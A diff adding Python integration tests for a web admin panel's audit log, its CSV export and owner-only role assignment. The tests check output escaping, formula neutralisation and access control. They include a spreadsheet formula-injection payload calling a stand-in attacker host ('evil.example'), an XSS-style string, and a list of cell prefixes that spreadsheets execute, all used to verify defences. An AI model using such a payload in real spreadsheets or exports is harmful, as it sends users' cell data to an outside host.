@@ -1,0 +1,107 @@
+"""The journal and the roles on the web."""
+
+import csv
+import io
+
+import httpx
+import pytest
+
+from db.tables.users import Edge, Role
+from services.users.actor import Actor
+from services.users.manage import CreditChange
+from tests.integration.web.admin.conftest import EVIL, Office
+from tests.support.forms import hidden_fields
+from tests.support.web import browser
+from web.admin.audit_log import calm_cell
+
+FORMULA = '=HYPERLINK("http://evil.example?"&A1)'
+
+
+async def gift(office: Office, reason: str, nonce: str) -> None:
+    change = CreditChange(user_id=office.anna.id, amount=100, reason=reason, nonce=nonce)
+    await office.services.user_management.change(change, actor=Actor(office.admin.id, Edge.CHAT))
+
+
+async def test_the_journal_is_filtered(office: Office, at_desk: httpx.AsyncClient) -> None:
+    await gift(office, EVIL, "n1")
+
+    async def shown(query: str) -> bool:
+        text = (await at_desk.get(f"/admin/audit-log?{query}")).text
+        assert EVIL not in text
+        return "&lt;img src=x" in text
+
+    for fits in ("", "action=credits.grant", "edge=chat", f"actor={office.admin.id}", f"target={office.anna.id}"):
+        assert await shown(fits), fits
+    assert await shown("since=2020-01-01&until=2099-01-01&action=nothing&actor=x&page=99")
+    for misses in ("edge=web", f"actor={office.owner.id}", "since=2099-01-01", "action=user.disable"):
+        assert not await shown(misses), misses
+
+
+async def test_the_table_holds_no_formula(office: Office, at_desk: httpx.AsyncClient) -> None:
+    await gift(office, FORMULA, "n1")
+    answer = await at_desk.get("/admin/audit-log.csv?action=credits.grant")
+    assert answer.headers["content-disposition"].startswith("attachment")
+    assert answer.headers["x-content-type-options"] == "nosniff"
+    (row,) = csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig")))
+    assert row["reason"] == f"'{FORMULA}"
+    assert (row["edge"], row["target_user_id"]) == ("chat", str(office.anna.id))
+    assert "<b>" not in row["said"]
+
+
+@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@A", "\t=1", "\r=1", " =1", "\u00a0=1", "＝1", "\n-1"])
+def test_cells_that_spreadsheets_would_run(text: str) -> None:
+    assert calm_cell(text) == f"'{text}"
+    assert calm_cell(f"x{text}") == f"x{text}"
+
+
+async def test_who_reads_the_journal(office: Office) -> None:
+    expected = {Role.OWNER: 200, Role.ADMIN: 200, Role.MODERATOR: 403, None: 404}
+    for role, status in expected.items():
+        async with browser(office.app, office.of(role)) as desk:
+            for place in ("/admin/audit-log", "/admin/audit-log.csv"):
+                assert (await desk.get(place)).status_code == status
+
+
+async def test_owners_give_roles(office: Office, at_desk: httpx.AsyncClient) -> None:
+    question = await at_desk.post("/admin/roles", data={"person": f"#{office.anna.id}", "role": "moderator"})
+    assert EVIL not in question.text
+    assert await office.services.admins.role_of(office.anna.id) is None
+    for _ in range(2):
+        await at_desk.post("/admin/roles", data=hidden_fields(question.text))
+    assert await office.services.admins.role_of(office.anna.id) is Role.MODERATOR
+    assert EVIL not in (await at_desk.get("/admin/roles")).text
+    async with browser(office.app, office.anna.id) as anna:
+        assert (await anna.get("/admin")).status_code == 200
+        question = await at_desk.post("/admin/roles", data={"person": "77", "role": "none"})
+        await at_desk.post("/admin/roles", data=hidden_fields(question.text))
+        assert (await anna.get("/admin")).status_code == 404
+
+
+@pytest.mark.parametrize(
+    ("person", "role"),
+    [("никто", "admin"), ("77", "owner"), ("77", ""), ("900000001", "admin"), ("", "admin"), (f"{EVIL}x", "admin")],
+)
+async def test_roles_that_nobody_gets(office: Office, at_desk: httpx.AsyncClient, person: str, role: str) -> None:
+    answer = await at_desk.post("/admin/roles", data={"person": person, "role": role, "nonce": "0123456789ab"})
+    assert answer.status_code == 422
+    assert EVIL not in answer.text
+    assert await office.services.admins.role_of(office.anna.id) is None
+
+
+async def test_only_owners_give_roles(office: Office) -> None:
+    for role, status in {Role.ADMIN: 403, Role.MODERATOR: 403, None: 404}.items():
+        async with browser(office.app, office.of(role)) as desk:
+            posted = {"person": str(office.anna.telegram_id), "role": "admin", "nonce": "0123456789ab"}
+            assert (await desk.post("/admin/roles", data=posted)).status_code == status
+            assert (await desk.get("/admin/roles")).status_code == status
+
+
+async def test_requests_to_assistants_are_for_owners(office: Office, at_desk: httpx.AsyncClient) -> None:
+    slug = (await office.services.model_management.all())[0].slug
+    place = f"/admin/models/{slug}/requests"
+    assert (await at_desk.get(place)).status_code == 200
+    assert (await at_desk.post(f"{place}/{'0' * 32}")).status_code == 404
+    assert (await at_desk.post(f"{place}/x")).status_code == 404
+    async with browser(office.app, office.admin.id) as desk:
+        assert (await desk.get(place)).status_code == 403
+        assert (await desk.post(f"{place}/{'0' * 32}")).status_code == 403
